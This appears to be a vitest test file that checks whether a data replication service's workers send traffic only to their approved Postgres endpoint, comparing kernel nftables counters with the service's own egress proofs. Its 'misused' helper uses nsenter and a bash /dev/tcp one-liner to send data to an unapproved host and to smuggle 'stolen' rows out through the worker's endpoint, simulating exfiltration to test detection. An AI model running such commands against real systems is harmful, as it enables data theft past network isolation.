import { spawnSync } from 'node:child_process';
import { readFileSync, readlinkSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { PgConnection } from '#replication/sources/postgres/connection.ts';
import { failedOf } from '#runtime/sandbox/network.ts';
import { startPostgres, type TestPostgres } from '../servers/postgres.ts';
import { connectTo } from './bank.ts';
import { ControlPlane } from './control-plane.ts';
import { makeLink, untilEqual, type MadeLink } from './link-ground.ts';
import { descendants, until } from './program.ts';

let database: TestPostgres;
let plane: ControlPlane;

const fileOf = (pid: number, name: string): string => {
  try {
    return readFileSync(`/proc/${pid}/${name}`, 'latin1');
  } catch {
    // It ended meanwhile.
    return '';
  }
};
const networkOf = (pid: number): string => {
  try {
    return readlinkSync(`/proc/${pid}/ns/net`);
  } catch {
    return '';
  }
};

/** What holds a worker's network: whoever enters there may read and write the network's rules. */
function holderOf(worker: number): number {
  const network = networkOf(worker);
  return descendants(plane.program.pid).find(
    (pid) => networkOf(pid) === network && fileOf(pid, 'cmdline').includes('while read -r group'),
  )!;
}

/** Runs a command in a worker's network. */
function inside(holder: number, command: readonly string[], input = ''): { readonly status: number | null; readonly out: string } {
  const enter = ['--preserve-credentials', '--user', '--net', '--target', String(holder), '--'];
  const { status, stdout, stderr } = spawnSync('/usr/bin/nsenter', [...enter, ...command], { input, encoding: 'utf8', timeout: 10_000 });
  return { status, out: stdout + stderr };
}

function nft(holder: number, args: readonly string[], input = ''): string {
  const { status, out } = inside(holder, ['/usr/sbin/nft', ...args], input);
  if (status !== 0) throw new Error(`nft: ${out}`);
  return out;
}

interface Counted {
  readonly packets: number;
  readonly bytes: number;
}

/** By kind and direction. */
export type LegCounts = Readonly<Record<string, Counted>>;

export interface EgressProofGround {
  /** Options of `isthmus up`. */
  readonly options: readonly string[];
  /** What a worker's network has. */
  readonly interfaces: readonly string[];
  /** nft's table `proof` in a worker's network: named counters, of which those whose names begin with `elsewhere` stay 0. */
  readonly rules: (port: number) => string;
  /** What is wrong with what the kernel itself counted between two moments at which the proof was read: by hand. */
  readonly wrong: (before: Look, after: Look) => readonly string[];
  /** Whether the network itself hears of what a worker tries elsewhere, and tells of it. */
  readonly hearsAttempts: boolean;
}

export interface Look {
  readonly counts: LegCounts;
  readonly proof: PathProof;
  /** The whole of /proc/net/dev there. */
  readonly dev: string;
}

interface PathProof {
  readonly job: string;
  readonly run: number;
  readonly ended: boolean;
  readonly engine: string;
  readonly isolated: boolean;
  readonly verdict: string;
  readonly said: { readonly sent: number; readonly received: number };
  readonly counted: readonly {
    readonly endpoint: string;
    readonly connections: number;
    readonly sent: number;
    readonly received: number;
  }[];
  readonly elsewhere: Readonly<Record<'connections' | 'sent' | 'received' | 'refused' | 'tried', number>>;
  readonly difference: { readonly sent: number; readonly received: number };
  readonly incidents: { readonly sentAgain: number } | null;
}

interface PathProofs {
  readonly engine: string;
  readonly worker: PathProof | null;
  readonly ended: readonly PathProof[];
  readonly total: { readonly workers: number } | null;
}

function counters(holder: number): LegCounts {
  const listed = JSON.parse(nft(holder, ['-j', 'list', 'counters'])) as { nftables: { counter?: Counted & { name: string } }[] };
  return Object.fromEntries(
    listed.nftables.flatMap(({ counter }) => (counter ? [[counter.name, { packets: counter.packets, bytes: counter.bytes }]] : [])),
  );
}

async function proofsOf(link: MadeLink): Promise<PathProofs> {
  const { status, json, text } = await plane.ask({ path: `${link.path}/pathProof` });
  if (status !== 200) throw new Error(text);
  return json as PathProofs;
}

/** Said is counted. A kernel counts packets: those that TCP had to send again it counts again, and the proof says so. */
const whole = ['Equal', 'Repeated'];

/** Where TCP did send a packet again, one so large as what is stolen here may be among it: it is shown, and no verdict says more than the counters do. */
function excusing(verdicts: readonly string[], { incidents }: PathProof): readonly string[] {
  if ((incidents?.sentAgain ?? 0) === 0) return verdicts;
  // What answered it is not among what was sent again.
  return [...verdicts, 'Repeated', ...(verdicts.includes('Differs') ? ['Underway', 'Undelivered'] : [])];
}

/** The proof of the worker that runs, once it is whole. */
async function proven(link: MadeLink): Promise<PathProof> {
  let last: PathProof | null = null;
  return await until('its path is proven', async () => {
    last = (await proofsOf(link)).worker;
    return last !== null && whole.includes(last.verdict) && last;
  }).catch((cause: unknown) => {
    throw new Error(JSON.stringify(last), { cause });
  });
}

/** The proof of the worker that runs, once what differs stays. */
async function quiet(link: MadeLink): Promise<PathProof> {
  let last: PathProof | null = null;
  return await until('nothing is on its way', async () => {
    const before = JSON.stringify(last?.difference);
    last = (await proofsOf(link)).worker;
    return last !== null && JSON.stringify(last.difference) === before && last;
  });
}

/** Proof and counters of one moment at which nothing moved. */
async function lookAt(link: MadeLink, holder: number): Promise<Look> {
  return await until('a quiet moment', async () => {
    const counts = counters(holder);
    const proof = await proven(link);
    const dev = fileOf(holder, 'net/dev');
    return JSON.stringify(counters(holder)) === JSON.stringify(counts) && { counts, proof, dev };
  });
}

const nothing = { connections: 0, sent: 0, received: 0, refused: 0, tried: 0 };

/** What is proven of a link's workers with an `isthmus up` that is given these options. */
export function describeEgressProof({ options, interfaces, rules, wrong, hearsAttempts }: EgressProofGround): () => ControlPlane {
  beforeAll(async () => {
    database = await startPostgres();
    plane = await ControlPlane.start(undefined, true, [], options);
  });
  afterAll(async () => {
    await plane[Symbol.asyncDispose]();
    plane.forget();
    await database[Symbol.asyncDispose]();
  });

  test(
    'over the whole life of a link its workers send not one packet but to the approved endpoint, and what they say they moved is what it counted',
    { timeout: 240_000 },
    async () => {
      await using source = await connectTo(database.url());
      await source.query(`
      CREATE TABLE public.items (id int PRIMARY KEY, said text);
      INSERT INTO public.items SELECT g, repeat('x', 200) FROM generate_series(1, 20000) g`);
      using seen = watchNetworks();
      const link = await makeLink(plane, { workspace: 'ws-proof', database, tables: ['items'] });
      // The one that follows: what checks the source beforehand is a worker too.
      const worker = await until('its worker', async () => (await link.status()).isthmus.pid);
      const holder = holderOf(worker);
      nft(holder, ['-f', '-'], rules(5432));
      await untilEqual(source, link.poolFile, 'public.items');
      const copied = await lookAt(link, holder);
      expect(copied.proof).toMatchObject({ job: 'link', run: 1, ended: false, isolated: true });
      expect(copied.proof.counted).toMatchObject([{ endpoint: expect.stringMatching(/\/managedprivateendpoints\/toshop$/i) }]);
      expect(copied.proof.said.received).toBeGreaterThan(20_000 * 200);
      await source.query(`UPDATE public.items SET said = 'changed' WHERE id % 3 = 0`);
      await source.query(`ALTER TABLE public.items ADD COLUMN more int DEFAULT 7; INSERT INTO public.items VALUES (70000, 'late', 8)`);
      await untilEqual(source, link.poolFile, 'public.items');
      const followed = await lookAt(link, holder);
      expect(followed.proof.said.received).toBeGreaterThan(copied.proof.said.received);
      expect(wrong(copied, followed)).toEqual([]);
      expect(followed.proof.elsewhere).toEqual(nothing);
      expect((await link.status()).isthmus.pid).toBe(worker);
      const counted = Object.entries(counters(holder));
      expect(counted.find(([name]) => name === 'endpoint')![1].packets).toBeGreaterThan(100);
      for (const [name, { packets }] of counted.filter(([one]) => one.startsWith('elsewhere'))) expect([name, packets]).toEqual([name, 0]);
      // Interactive work has workers and networks of its own.
      const runtime = `${link.ground.workspace}/integrationRuntimes/AutoResolveIntegrationRuntime`;
      expect((await plane.ask({ method: 'POST', path: `${runtime}/enableInteractiveQuery`, body: {} })).status).toBeLessThan(300);
      const tested = await plane.ask({
        method: 'POST',
        path: '/synapse/ws-proof/testConnectivity',
        body: { linkedService: { name: 'shop' } },
      });
      expect(tested.json).toMatchObject({ succeeded: true });
      await stopped(link, whole, followed.proof.said.received);
      expect([...seen.interfaces].toSorted()).toEqual(interfaces);
      expect(seen.failed.size).toBeGreaterThan(1);
      expect([...seen.failed.values()].every((count) => count === 0)).toBe(true);
      await source.query(`DELETE FROM public.items WHERE id > 200`);
      // Another worker, whose connections are cut, and beside which somebody uses its network.
      await link.ask('start');
      await untilEqual(source, link.poolFile, 'public.items');
      await link.untilStatus('Running');
      await cutAtSource(source, link);
      await misused(link);
      if (hearsAttempts) await toldOf(link);
      await stopped(link, ['Differs'], 1);
    },
  );
  return () => plane;
}

interface Seen extends Disposable {
  readonly interfaces: ReadonlySet<string>;
  /** By network: tries that found nobody. */
  readonly failed: ReadonlyMap<string, number>;
}

/** Counters of the kernel, from the birth of each worker's network that is seen. */
function watchNetworks(): Seen {
  const interfaces = new Set<string>();
  const failed = new Map<string, number>();
  const look = setInterval(() => {
    for (const pid of descendants(plane.program.pid)) {
      if (!fileOf(pid, 'cmdline').startsWith('isthmus worker')) continue;
      const [dev, snmp, snmp6] = [fileOf(pid, 'net/dev'), fileOf(pid, 'net/snmp'), fileOf(pid, 'net/snmp6')];
      if (snmp === '') continue;
      for (const [, name] of dev.matchAll(/^\s*([^\s:]+):/gm)) interfaces.add(name!);
      failed.set(networkOf(pid), failedOf(snmp, snmp6));
    }
  }, 50);
  return { interfaces, failed, [Symbol.dispose]: () => clearInterval(look) };
}

/** Stops the link. Kept with it are its worker's last word, and that of whoever gave the slot back. */
async function stopped(link: MadeLink, verdicts: readonly string[], received: number): Promise<void> {
  const before = (await proofsOf(link)).total?.workers ?? 0;
  await link.ask('stop');
  await link.untilStatus('Stopped');
  const { worker, ended, total } = await proofsOf(link);
  expect(worker).toBeNull();
  expect(ended.slice(0, 2)).toMatchObject([{ job: 'release', elsewhere: nothing }, { job: 'link' }]);
  expect(whole).toContain(ended[0]!.verdict);
  expect(excusing(verdicts, ended[1]!)).toContain(ended[1]!.verdict);
  expect(ended[1]!.said.received).toBeGreaterThanOrEqual(received);
  expect(total?.workers).toBe(before + 2);
}

/** What was tried is in the egress log, with whose it was and why it was refused. */
async function toldOf(link: MadeLink): Promise<void> {
  const path = `${link.ground.workspace}/managedVirtualNetworks/default/egressReport`;
  const found = await until('the attempt is told of', async () => {
    const denied = (await plane.ask({ path })).json.denied as readonly { readonly host: string }[];
    return denied.find(({ host }) => host === '10.9.9.9');
  });
  expect(found).toMatchObject({ port: 1433, asker: 'link ws-proof.db-link', code: 'NoEndpoint' });
}

/** Its connections are cut at the source: the same worker connects anew. */
async function cutAtSource(source: PgConnection, link: MadeLink): Promise<void> {
  const { pid } = (await link.status()).isthmus;
  await source.query(
    `SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND application_name LIKE 'isthmus%'`,
  );
  await source.query(`DELETE FROM public.items WHERE id < 100`);
  await untilEqual(source, link.poolFile, 'public.items');
  expect((await link.status()).isthmus.pid).toBe(pid);
  const { verdict, elsewhere, difference } = await quiet(link);
  expect(elsewhere).toEqual(nothing);
  // The last words of its source may not have reached it.
  expect(verdict).not.toBe('Differs');
  expect(Math.abs(difference.sent) + Math.abs(difference.received)).toBeLessThan(1_000);
}

/** From within its worker's network somebody tries elsewhere, and sends by its endpoint what the worker does not say. */
async function misused(link: MadeLink): Promise<void> {
  const holder = holderOf((await link.status()).isthmus.pid!);
  const { difference: before } = await quiet(link);
  const sendTo = (host: string, port: number, text: string) =>
    inside(holder, ['/bin/bash', '-c', `exec 3<>/dev/tcp/${host}/${port} && printf '${text}' >&3 && cat <&3 | wc -c`]);
  expect(sendTo('10.9.9.9', 1433, 'rows').status).not.toBe(0);
  const tried = await until('its attempt is counted', async () => {
    const proof = await quiet(link);
    return Math.max(proof.elsewhere.refused, proof.elsewhere.tried) > 0 && proof;
  });
  expect(tried.verdict).not.toBe('Differs');
  expect(tried.elsewhere).toMatchObject({ connections: 0, sent: 0, received: 0 });
  // The address that the worker itself is connected to.
  const [, hex = ''] = /^\s*\d+: \S+ ([0-9A-F]{8}):1538 01 /m.exec(fileOf(holder, 'net/tcp')) ?? [];
  const bytes = hex.match(/../g) ?? [];
  const address = bytes
    .toReversed()
    .map((byte) => Number.parseInt(byte, 16))
    .join('.');
  const stolen = 'a row that nobody is to have. '.repeat(100);
  const answered = sendTo(address, 5432, stolen);
  expect(answered.status).toBe(0);
  // What the kernel counts may be looked at a moment later than what the worker says.
  const proof = await until('what was stolen is counted', async () => {
    const last = await quiet(link);
    return before.sent - last.difference.sent > stolen.length / 2 && excusing(['Differs'], last).includes(last.verdict) && last;
  });
  const { difference } = proof;
  // Packets of a kernel may be sent again.
  expect(Math.abs(before.sent - difference.sent - stolen.length)).toBeLessThan(1_000);
  expect(Math.abs(before.received - difference.received - Number(answered.out))).toBeLessThan(1_000);
}
